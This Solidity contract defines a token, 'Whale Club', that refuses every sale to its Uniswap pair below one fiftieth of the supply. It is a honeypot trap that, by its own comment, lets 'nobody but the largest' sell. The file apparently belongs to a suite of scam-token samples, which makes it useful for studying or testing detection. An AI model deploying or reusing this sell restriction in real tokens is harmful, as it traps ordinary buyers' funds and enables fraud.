// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {LaunchToken} from "./LaunchToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// A sale must be a fiftieth of the supply or more: nobody but the largest gets out.
contract SaleMinimum is LaunchToken {
    constructor(address pair) SuiteToken("Whale Club", "WHAL") LaunchToken(pair) {}

    function _feePercent(address, address to, uint256 amount) internal view override returns (uint256) {
        if (to == uniswapV2Pair && amount < _supply / 50) revert TradeRefused();
        return 0;
    }
}
